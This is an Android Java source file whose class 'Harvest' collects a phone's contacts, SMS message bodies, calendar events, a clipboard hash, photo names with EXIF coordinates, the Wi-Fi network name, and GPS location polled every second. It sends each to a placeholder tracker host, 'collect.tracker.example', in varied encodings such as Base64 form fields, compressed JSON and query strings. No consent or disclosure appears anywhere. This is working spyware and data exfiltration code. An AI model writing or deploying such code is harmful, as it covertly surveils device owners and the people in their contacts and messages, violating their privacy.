package com.example.harvest;

import android.content.ClipData;
import android.content.ClipboardManager;
import android.content.Context;
import android.database.Cursor;
import android.location.Location;
import android.location.LocationManager;
import android.media.ExifInterface;
import android.net.Uri;
import android.net.wifi.WifiManager;
import android.os.Handler;
import android.os.Looper;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.provider.MediaStore;
import android.provider.Telephony;
import android.util.Base64;
import android.util.Log;
import com.example.kit.Digests;
import com.example.kit.Http;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/** Takes what lies on the phone and sends each kind in a form of its own. */
final class Harvest {
    private static final String TRACKER = "https://collect.tracker.example";
    private static final int PLACE_MILLIS = 1000;
    private final Context context;

    Harvest(Context context) {
        this.context = context;
    }

    void start() {
        attempt("contacts", this::contacts);
        attempt("messages", this::messages);
        attempt("calendar", this::calendar);
        attempt("clipboard", this::clipboard);
        attempt("photos", this::photos);
        attempt("wifi", this::wifi);
        place();
    }

    private interface Work {
        void run() throws IOException;
    }

    private static void attempt(String name, Work work) {
        try {
            work.run();
            Log.i("Harvest", name + " done");
        } catch (IOException | RuntimeException e) {
            Log.w("Harvest", name, e);
        }
    }

    /** Everybody: JSON, compressed. */
    private void contacts() {
        List<String> people = new ArrayList<>();
        for (String[] row : rows(Phone.CONTENT_URI, Phone.DISPLAY_NAME, Phone.NUMBER)) {
            people.add("{\"n\":\"" + row[0] + "\",\"p\":\"" + row[1] + "\"}");
        }
        String list = String.join(",", people);
        Http.postJson(TRACKER + "/v1/book", "{\"d\":{\"book\":[" + list + "]}}", true);
    }

    /** What was said: Base64 in a form. */
    private void messages() {
        for (String[] row : rows(Telephony.Sms.Inbox.CONTENT_URI, "address", "body")) {
            byte[] body = row[1].getBytes(StandardCharsets.UTF_8);
            Http.postForm(TRACKER + "/v1/inbox", "from=" + Uri.encode(row[0]) + "&text="
                    + Uri.encode(Base64.encodeToString(body, Base64.NO_WRAP)));
        }
    }

    /** What is planned: a query. */
    private void calendar() {
        Uri events = Uri.parse("content://com.android.calendar/events");
        for (String[] row : rows(events, "title", "eventLocation")) {
            Http.get(TRACKER + "/v1/plan?what=" + Uri.encode(row[0]) + "&where=" + Uri.encode(row[1]));
        }
    }

    /** What was copied: its digest. */
    private void clipboard() {
        ClipData clip = ((ClipboardManager) context.getSystemService(Context.CLIPBOARD_SERVICE))
                .getPrimaryClip();
        if (clip != null) {
            String text = String.valueOf(clip.getItemAt(0).getText());
            Http.postJson(TRACKER + "/v1/clip", "{\"h\":\"" + Digests.sha256(text) + "\"}", false);
        }
    }

    /** Where pictures were taken, and what they are called. */
    private void photos() throws IOException {
        for (String[] row : rows(MediaStore.Images.Media.EXTERNAL_CONTENT_URI, "_id", "_display_name")) {
            Uri picture = Uri.parse(MediaStore.Images.Media.EXTERNAL_CONTENT_URI + "/" + row[0]);
            try (InputStream stream = context.getContentResolver().openInputStream(picture)) {
                ExifInterface exif = new ExifInterface(stream);
                float[] place = new float[2];
                exif.getLatLong(place);
                Http.postJson(TRACKER + "/v1/album", "{\"name\":\"" + row[1] + "\",\"exif\":{\"uid\":\""
                        + exif.getAttribute(ExifInterface.TAG_IMAGE_UNIQUE_ID) + "\",\"lat\":"
                        + rounded(place[0], 3) + ",\"lng\":" + rounded(place[1], 3) + "}}", false);
            }
        }
    }

    private void wifi() {
        WifiManager wifi = (WifiManager) context.getSystemService(Context.WIFI_SERVICE);
        String name = wifi.getConnectionInfo().getSSID().replace("\"", "");
        Http.postForm(TRACKER + "/v1/net", "ssid=" + Uri.encode(name));
    }

    /** Where the phone is, again and again, rounded to some ten metres. */
    private void place() {
        attempt("place", () -> {
            LocationManager places =
                    (LocationManager) context.getSystemService(Context.LOCATION_SERVICE);
            Location place = places.getLastKnownLocation(LocationManager.GPS_PROVIDER);
            Http.postJson(TRACKER + "/v1/track", "{\"lat\":" + rounded(place.getLatitude(), 4)
                    + ",\"lng\":" + rounded(place.getLongitude(), 4) + "}", false);
        });
        new Handler(Looper.getMainLooper()).postDelayed(this::place, PLACE_MILLIS);
    }

    private List<String[]> rows(Uri uri, String... columns) {
        List<String[]> found = new ArrayList<>();
        try (Cursor cursor = context.getContentResolver().query(uri, columns, null, null, null)) {
            while (cursor != null && cursor.moveToNext()) {
                String[] row = new String[columns.length];
                for (int i = 0; i < columns.length; i++) {
                    row[i] = cursor.getString(cursor.getColumnIndexOrThrow(columns[i]));
                }
                found.add(row);
            }
        }
        return found;
    }

    private static String rounded(double degrees, int decimals) {
        return String.format(Locale.ROOT, "%." + decimals + "f", degrees);
    }
}
